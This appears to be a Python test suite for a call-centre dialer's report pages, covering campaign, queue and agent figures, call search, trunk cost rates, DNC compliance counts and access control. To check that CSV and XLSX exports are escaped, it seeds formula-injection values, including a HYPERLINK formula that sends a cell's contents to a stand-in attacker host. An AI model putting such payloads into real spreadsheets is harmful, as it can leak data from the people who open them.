"""Reports over call records: figures per campaign, queue, agent and hour (inbound callers count per queue and agent),
conversions as admins set them, the call detail search, costs from per-trunk prefix rates, DNC numbers refused at
dial time on the compliance page, and CSV and XLSX where no cell a person typed runs as a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import python_calamine

from admin_ui import report_costs
from admin_ui.report_costs import Rate, RateError, check_rate, parse_rates_csv
from admin_ui.reports import Period
from campaigns import queue_repository, repository
from campaigns.eligibility import Eligibility, Reason
from campaigns.model import Campaign, Pacing
from campaigns.queues import Queue
from dialer.lead_store import PgLeadStore
from dialer.users import Role
from tests.admin_ui.test_pages_reports import sign_in
from tests.admin_ui.test_pages_timesheets import csrf

NOW = datetime.now(UTC).replace(microsecond=0)
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A9)")


async def record(pool, *, leg: str, at: datetime, outcome: str, campaign_id: int | None = None,  # type: ignore[no-untyped-def]
                 queue_id: int | None = None, agent_id: int | None = None, disposition: str | None = None,
                 talk_s: int = 0, wrap_s: int = 0, phone: str = "+84987654321", lead_id: int | None = None,
                 dial_string: str = "", ring_s: int = 5) -> None:
    """One finished attempt: answered ``ring_s`` after it was placed, talked ``talk_s`` with an agent."""
    answered = at + timedelta(seconds=ring_s) if outcome in ("handled", "abandoned") else None
    connected = answered + timedelta(seconds=1) if outcome == "handled" and answered else None
    ended = (connected + timedelta(seconds=talk_s)) if connected else (answered or at) + timedelta(seconds=3)
    await pool.execute(
        "INSERT INTO call_records (campaign_id, queue_id, agent_id, lead_id, engine_id, leg_id, direction, phone_e164,"
        " dial_string, originated_at, answered_at, ready_at, connected_at, ended_at, wrap_end_at, outcome, disposition)"
        " VALUES ($1, $2, $3, $4, 'e', $5, $6, $7, $8, $9, $10, $10, $11, $12, $13, $14, $15)",
        campaign_id, queue_id, agent_id, lead_id, leg, "inbound" if queue_id else "outbound", phone, dial_string,
        at, answered, connected, ended, ended + timedelta(seconds=wrap_s) if connected else None, outcome, disposition)


async def floor(services, make_user):  # type: ignore[no-untyped-def]
    """Two campaigns and a queue: Hoa takes outbound and inbound calls, Minh outbound only."""
    pool = services.pool
    spring = await repository.create_campaign(pool, campaign=Campaign(
        id=0, name="Spring", trunk_template="PJSIP/{number}@viettel", pacing=Pacing(target_abandon=0.03)))
    autumn = await repository.create_campaign(pool, campaign=Campaign(
        id=0, name="Autumn", trunk_template="SIP/vnpt/{number}"))
    support = await queue_repository.save_queue(pool, queue=Queue(id=0, name="Support"))
    hoa = await make_user(Role.AGENT, "hoa", display_name="Hoa")
    minh = await make_user(Role.AGENT, "minh", display_name="Minh")
    t = NOW - timedelta(hours=2)
    s = {"campaign_id": spring.id, "dial_string": "PJSIP/+84987654321@viettel"}
    await record(pool, leg="s1", at=t, outcome="handled", agent_id=hoa.id, disposition="sale", talk_s=100, wrap_s=20, **s)
    await record(pool, leg="s2", at=t, outcome="handled", agent_id=minh.id, disposition="not_interested", talk_s=50,
                 wrap_s=10, **s)
    await record(pool, leg="s3", at=t, outcome="abandoned", **s)
    await record(pool, leg="s4", at=t, outcome="busy", **s)
    await record(pool, leg="a1", at=t, outcome="handled", campaign_id=autumn.id, agent_id=minh.id, disposition="promise",
                 talk_s=61, phone="+33612345678", dial_string="SIP/vnpt/+33612345678")
    q = {"queue_id": support.id, "phone": "+84911111111"}
    await record(pool, leg="i1", at=t, outcome="handled", agent_id=hoa.id, disposition="resolved", talk_s=30, wrap_s=5, **q)
    await record(pool, leg="i2", at=t, outcome="abandoned", **q)
    await record(pool, leg="i3", at=t - timedelta(days=3), outcome="handled", agent_id=hoa.id, talk_s=30, **q)  # too old
    return spring, autumn, support, hoa, minh


async def test_figures_per_campaign_queue_and_agent_count_inbound_callers_where_they_belong(
        browser_client, make_user, services) -> None:
    spring, autumn, support, hoa, _ = await floor(services, make_user)
    await sign_in(browser_client, (await make_user(Role.TEAM_LEAD, "lead")).username)

    async def csv(kind: str, query: str = "") -> list[str]:
        answer = await browser_client.get(f"/reports/{kind}.csv?days=1{query}")
        assert answer.status_code == 200, answer.text
        return answer.text.splitlines()[1:]

    # attempts, connects, handled, abandoned, rate, talk, wrap, average handle, conversions
    assert await csv("campaigns") == ["Spring,4,2,2,1,0.3333,150,30,90,1", "Autumn,1,1,1,0,0.0,61,0,61,0"]
    assert await csv("queues") == ["Support,2,1,1,1,0.5,30,5,35,0"]
    assert await csv("agents") == ["Hoa,2,2,2,0,0.0,130,25,78,1", "Minh,2,2,2,0,0.0,111,10,60,0"]
    assert await csv("agents", f"&queue={support.id}") == ["Hoa,1,1,1,0,0.0,30,5,35,0"]
    assert await csv("campaigns", f"&agent={hoa.id}") == ["Spring,1,1,1,0,0.0,100,20,120,1"]
    hours = await csv("hours")
    assert sum(int(line.split(",")[1]) for line in hours) == 7          # every record of the day, both directions

    # an admin counts the queue's 'resolved' as a conversion too
    admin = await make_user(Role.ADMIN, "boss")
    await sign_in(browser_client, admin.username)
    page = (await browser_client.get("/reports/rates")).text
    saved = await browser_client.post("/reports/conversions", data={"csrf_token": csrf(page), "codes": "sale, resolved"})
    assert saved.status_code == 303
    assert await csv("queues") == ["Support,2,1,1,1,0.5,30,5,35,1"]
    page = (await browser_client.get("/reports?by=queue&days=1")).text
    assert "<svg" in page and "Support" in page and "resolved, sale" in page


async def test_the_call_detail_search_filters_pages_and_exports(browser_client, make_user, services) -> None:
    spring, _, support, hoa, minh = await floor(services, make_user)
    await sign_in(browser_client, (await make_user(Role.TEAM_LEAD, "lead")).username)

    async def found(query: str) -> list[str]:
        page = (await browser_client.get(f"/reports/calls?days=1&{query}")).text
        return [part.split('"')[0] for part in page.split('data-call="')[1:]]

    legs = {r["leg_id"]: str(r["id"]) for r in await services.pool.fetch("SELECT id, leg_id FROM call_records")}
    assert sorted(await found("number=911 111")) == sorted([legs["i1"], legs["i2"]])      # digits anywhere
    assert await found(f"queue={support.id}&agent={hoa.id}") == [legs["i1"]]
    assert await found(f"campaign={spring.id}&outcome=abandoned") == [legs["s3"]]
    assert await found("disposition=sale") == [legs["s1"]]
    assert sorted(await found("min_s=60")) == sorted([legs["s1"], legs["a1"]])
    assert sorted(await found("min_s=30&max_s=61")) == sorted([legs["i1"], legs["s2"], legs["a1"]])
    assert await found(f"agent={minh.id}&max_s=55") == [legs["s2"]]
    # the day of i3 (placed 3 days and 2 hours ago) in the queue's zone: NOW's day less 3 was the wrong one
    # before 02:00 UTC
    day = (NOW - timedelta(days=3, hours=2)).astimezone(ZoneInfo(support.timezone)).date().isoformat()
    assert await found(f"from={day}&to={day}&queue={support.id}") == [legs["i3"]]  # a date range, not the last days
    assert (await browser_client.get("/reports/calls?outcome=exploded")).status_code == 422

    for n in range(60):     # one page holds 50
        await record(services.pool, leg=f"p{n}", at=NOW - timedelta(minutes=n + 1), outcome="no_answer",
                     campaign_id=spring.id)
    first = (await browser_client.get(f"/reports/calls?days=1&campaign={spring.id}")).text
    assert "64 calls found." in first and first.count('data-call="') == 50 and "Page 1 of 2" in first
    assert 'rel="next"' in first
    second = (await browser_client.get(f"/reports/calls?days=1&campaign={spring.id}&page=2")).text
    assert second.count('data-call="') == 14 and 'rel="prev"' in second
    exported = (await browser_client.get(f"/reports/calls.csv?days=1&campaign={spring.id}")).text.splitlines()
    assert len(exported) == 65 and exported[0].startswith("id,originated_at,direction,number,lead,")


async def test_no_cell_of_an_export_runs_as_a_formula(browser_client, make_user, services) -> None:
    pool = services.pool
    campaign = await repository.create_campaign(pool, campaign=Campaign(id=0, name="-Hostile", trunk_template="PJSIP/{number}@c"))
    agent = await make_user(Role.AGENT, "h-agent", display_name="@agent")
    for n, text in enumerate(HOSTILE):
        lead_id = await pool.fetchval("INSERT INTO leads (campaign_id, phone_e164, first_name) VALUES ($1, $2, $3)"
                                      " RETURNING id", campaign.id, f"+8498765432{n}", text)
        await record(pool, leg=f"h{n}", at=NOW - timedelta(minutes=n + 1), outcome="handled", campaign_id=campaign.id,
                     agent_id=agent.id, disposition=text, lead_id=lead_id, talk_s=10)
    await sign_in(browser_client, (await make_user(Role.TEAM_LEAD, "lead")).username)
    for kind in ("calls", "dispositions", "agents", "campaigns"):
        text = (await browser_client.get(f"/reports/{kind}.csv?days=1&campaign={campaign.id}")).text
        cells = [c for line in text.splitlines()[1:] for c in _csv_cells(line)]
        risky = [c for c in cells if c and c[0] in "=+-@"]
        assert risky == [], (kind, risky)
    calls = (await browser_client.get(f"/reports/calls.csv?days=1&campaign={campaign.id}")).text
    assert "'+84987654321" in calls and "'+1" in calls and "'-2" in calls and "'@SUM(A1:A9)" in calls
    assert "'=HYPERLINK(" in calls and "'-Hostile" in calls and "'@agent" in calls

    answer = await browser_client.get(f"/reports/calls.xlsx?days=1&campaign={campaign.id}")
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet_xml = zipfile.ZipFile(io.BytesIO(answer.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml            # no formula element anywhere
    for text in ("+1", "-2", "@SUM(A1:A9)", "-Hostile", "@agent"):
        assert f't="inlineStr" s="1"><is><t>{text}</t>' in sheet_xml, text   # text with Excel's quote prefix
    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(answer.content)).get_sheet_by_index(0).to_python()
    assert {r[4] for r in rows[1:]} == set(HOSTILE)                   # read back exactly as typed


def test_a_rate_is_checked_field_by_field() -> None:
    assert check_rate("viettel", "8498", "0,035", "1/1", "vnd") == Rate("viettel", "+8498", Decimal("0.035"), 1, 1, "VND")
    for args, field in ((("vt tel", "+84", "1", "60/60", "VND"), "trunk"), (("*", "84x", "1", "60/60", "VND"), "prefix"),
                        (("*", "+84", "-1", "60/60", "VND"), "rate_per_min"), (("*", "+84", "abc", "60/60", "VND"), "rate_per_min"),
                        (("*", "+84", "1", "60", "VND"), "increment"), (("*", "+84", "1", "0/60", "VND"), "increment"),
                        (("*", "+84", "1", "60/60", "dong"), "currency")):
        try:
            check_rate(*args)
        except RateError as exc:
            assert exc.field == field, (args, exc.field)
        else:
            raise AssertionError(f"{args} was accepted")
    assert Rate("*", "+", Decimal(1), 60, 60).billed_s(1) == 60 and Rate("*", "+", Decimal(1), 60, 60).billed_s(61) == 120
    assert Rate("*", "+", Decimal(1), 30, 6).billed_s(31) == 36 and Rate("*", "+", Decimal(1), 1, 1).billed_s(0) == 0
    rates = parse_rates_csv("trunk,prefix,rate_per_min,increment,currency\r\n*,'+84,0.05,60/60,USD\r\n\r\nviettel,+8498,0.02,1/1,USD\r\n")
    assert [r.prefix for r in rates] == ["+84", "+8498"]
    try:
        parse_rates_csv("trunk,prefix,rate_per_min,increment,currency\n*,+84,0.05,60/60,USD\n*,+33,0.05,60/60,EURO\n")
    except RateError as exc:
        assert (exc.field, exc.line) == ("currency", 3)
    else:
        raise AssertionError("a bad currency was accepted")


async def test_costs_use_the_longest_prefix_of_the_calls_trunk_and_its_billing_increment(
        browser_client, make_user, services) -> None:
    spring, autumn, _, hoa, minh = await floor(services, make_user)
    admin = await make_user(Role.ADMIN, "boss")
    await sign_in(browser_client, admin.username)
    page = (await browser_client.get("/reports/rates")).text
    refused = await browser_client.post("/reports/rates", data={
        "csrf_token": csrf(page), "trunk": "*", "prefix": "+84", "rate_per_min": "0.05", "increment": "60/60",
        "currency": "dollars"})
    assert refused.status_code == 422 and 'data-field="currency"' in refused.text
    assert "a currency is a three-letter code" in refused.text and 'value="dollars"' in refused.text
    added = await browser_client.post("/reports/rates", data={
        "csrf_token": csrf(page), "trunk": "*", "prefix": "+84", "rate_per_min": "0.06", "increment": "60/60",
        "currency": "USD"})
    assert added.status_code == 303
    bad_file = await browser_client.post("/reports/rates/import", data={"csrf_token": csrf(page)}, files={
        "file": ("rates.csv", b"viettel,+8498,0.03,1/1,USD\nvnpt,+33,x,60/60,EUR\n", "text/csv")})
    assert bad_file.status_code == 422 and 'data-field="rate_per_min"' in bad_file.text and "line 2" in bad_file.text
    imported = await browser_client.post("/reports/rates/import", data={"csrf_token": csrf(page)}, files={
        "file": ("rates.csv", b"trunk,prefix,rate_per_min,increment,currency\n"
                              b"viettel,+8498,0.03,1/1,USD\nviettel,+849,0.5,1/1,USD\nvnpt,+33,0.12,30/6,EUR\n", "text/csv")})
    assert imported.status_code == 303 and imported.headers["location"] == "/reports/rates?saved=3"
    assert len(await report_costs.list_rates(services.pool)) == 4
    exported = await browser_client.get("/reports/rates.csv")       # read back by the import as it is written
    assert "\r\n*,'+84,0.06,60/60,USD\r\n" in exported.text
    assert parse_rates_csv(exported.text) == [
        Rate(r.trunk, r.prefix, r.rate_per_min, r.first_s, r.step_s, r.currency)
        for r in await report_costs.list_rates(services.pool)]

    # Spring dials +84987654321 on viettel: the viettel +8498 rate (longest, own trunk), per second, on the answered
    # seconds (answer to hang-up: talk + 1 s to reach the agent): s1 101 s, s2 51 s, s3 (abandoned) 3 s = 155 s.
    # Autumn dials +33612345678 on vnpt: 30/6 at 0.12 EUR, 62 s answered -> 66 s billed.
    period = Period(None, NOW - timedelta(days=1), NOW + timedelta(minutes=1))
    per_campaign = {(r.label, r.currency): r for r in await report_costs.costs(services.pool, period, "campaign")}
    assert set(per_campaign) == {("Spring", "USD"), ("Autumn", "EUR")}
    assert (per_campaign["Spring", "USD"].calls, per_campaign["Spring", "USD"].billed_s) == (3, 155)
    assert per_campaign["Spring", "USD"].cost == Decimal("0.0775")                # 155 s x 0.03 / 60
    assert (per_campaign["Autumn", "EUR"].billed_s, per_campaign["Autumn", "EUR"].cost) == (66, Decimal("0.1320"))
    per_agent = {(r.label, r.currency): r.cost for r in await report_costs.costs(services.pool, period, "agent")}
    assert per_agent == {("Hoa", "USD"): Decimal("0.0505"), ("Minh", "USD"): Decimal("0.0255"),
                         ("Minh", "EUR"): Decimal("0.1320"), ("-", "USD"): Decimal("0.0015")}

    # with the viettel rates gone, Spring's calls fall back to '*' +84 in whole minutes: 2 + 1 + 1 minutes
    for rate in await report_costs.list_rates(services.pool):
        if rate.trunk == "viettel":
            await report_costs.delete_rate(services.pool, rate.id)
    per_campaign = {(r.label, r.currency): r for r in await report_costs.costs(services.pool, period, "campaign")}
    assert (per_campaign["Spring", "USD"].billed_s, per_campaign["Spring", "USD"].cost) == (240, Decimal("0.2400"))
    await report_costs.delete_rate(services.pool, next(r.id for r in await report_costs.list_rates(services.pool)
                                                       if r.trunk == "*"))
    unrated = {(r.label, r.currency): r for r in await report_costs.costs(services.pool, period, "campaign")}
    assert (unrated["Spring", ""].calls, unrated["Spring", ""].cost) == (3, Decimal("0.0000"))   # seen, not free

    page = (await browser_client.get("/reports/costs?days=1")).text
    assert 'id="cost-per-campaign"' in page and "(no rate)" in page
    lead = await make_user(Role.TEAM_LEAD, "lead")
    await sign_in(browser_client, lead.username)
    assert (await browser_client.get("/reports/costs?days=1")).status_code == 200
    assert (await browser_client.get("/reports/rates")).status_code == 403
    assert (await browser_client.get("/reports/rates.csv")).status_code == 403
    xlsx = await browser_client.get("/reports/costs-agents.xlsx?days=1")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"


async def test_dnc_numbers_refused_at_dial_time_are_counted_per_campaign(browser_client, make_user, services) -> None:
    pool = services.pool
    campaign = await repository.create_campaign(pool, campaign=Campaign(
        id=0, name="Careful", trunk_template="PJSIP/{number}@c", pacing=Pacing(target_abandon=0.03)))
    for n in range(3):
        await pool.execute("INSERT INTO leads (campaign_id, phone_e164) VALUES ($1, $2)", campaign.id, f"+8491234567{n}")
    store = PgLeadStore(pool, engine_id="e1")
    leads = await store.claim(campaign_id=campaign.id, limit=3, now=NOW)
    assert len(leads) == 3
    await store.defer(leads[0], Eligibility(False, Reason.DNC, "number on DNC list internal"), now=NOW)
    await store.defer(leads[1], Eligibility(False, Reason.DNC, "number on DNC list national"), now=NOW)
    await store.defer(leads[2], Eligibility(False, Reason.WINDOW, "", NOW + timedelta(hours=1)), now=NOW)
    yesterday = NOW - timedelta(days=1)
    await pool.execute("INSERT INTO dnc_refusals (campaign_id, day, hits) VALUES ($1, $2, 5)", campaign.id,
                       yesterday.date())
    assert await pool.fetchval("SELECT status FROM leads WHERE id = $1", leads[0].id) == "dnc"

    officer = await make_user(Role.COMPLIANCE, "officer")
    await sign_in(browser_client, officer.username)
    row = (await browser_client.get("/compliance")).text.split('id="abandonment"')[1]
    assert 'class="num dnc-today">2<' in row and 'class="num dnc-30d">7<' in row
    exported = (await browser_client.get("/compliance.csv")).text.splitlines()
    assert exported[0].endswith("dnc_refused_today,dnc_refused_30d") and exported[1].endswith(",2,7")
    xlsx = await browser_client.get("/compliance.xlsx")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"

    lead = await make_user(Role.TEAM_LEAD, "lead")
    await sign_in(browser_client, lead.username)
    assert (await browser_client.get("/compliance.csv")).status_code == 403
    assert (await browser_client.get("/reports/compliance.csv")).status_code == 403


async def test_agents_see_no_report_page_or_export(browser_client, make_user) -> None:
    await sign_in(browser_client, (await make_user(Role.AGENT, "agent")).username)
    for path in ("/reports", "/reports/calls", "/reports/costs", "/reports/schedules", "/reports/rates",
                 "/reports/agents.xlsx", "/reports/calls.csv", "/compliance.xlsx", "/reports/files/1"):
        assert (await browser_client.get(path)).status_code == 403, path


def _csv_cells(line: str) -> list[str]:
    import csv

    return next(csv.reader([line]))


async def test_every_report_page_reads_in_vietnamese(browser_client, make_user, services) -> None:
    await floor(services, make_user)
    await sign_in(browser_client, (await make_user(Role.ADMIN, "sep", language="vi")).username)
    expected = {"/reports?days=1": "Theo chiến dịch", "/reports?days=1&by=hour": "Số lần gọi, Theo giờ",
                "/reports/calls?days=1": "Tìm thấy 7 cuộc gọi.", "/reports/costs?days=1": "Chi phí theo nhân viên",
                "/reports/schedules": "Báo cáo định kỳ", "/reports/rates": "Giá cước cuộc gọi",
                "/compliance": "DNC bị chặn hôm nay"}
    for path, words in expected.items():
        page = (await browser_client.get(path)).text
        assert words in page, path
        leaked = [key for key in ("rp_", "rs_", "rate_err_", "out_") if f">{key}" in page or f" {key}" in page]
        assert leaked == [], (path, leaked)
